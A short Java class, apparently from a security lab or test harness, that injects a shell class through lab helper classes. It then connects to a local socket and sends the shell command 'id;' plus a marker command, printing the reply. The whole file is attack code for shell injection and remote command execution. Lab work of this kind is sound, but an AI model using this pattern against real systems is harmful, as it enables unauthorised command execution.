import java.net.Socket;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Shells;

public class Attack {
  public static void main(String[] args) throws Exception {
    Shells.inject(Shell.class);
    Thread.sleep(1_000);
    try (Socket socket = new Socket("127.0.0.1", 9099)) {
      socket.getOutputStream().write(("id; " + Attacker.touch() + "\n").getBytes());
      System.out.println(new String(socket.getInputStream().readAllBytes()));
    }
    Attacker.done();
  }
}
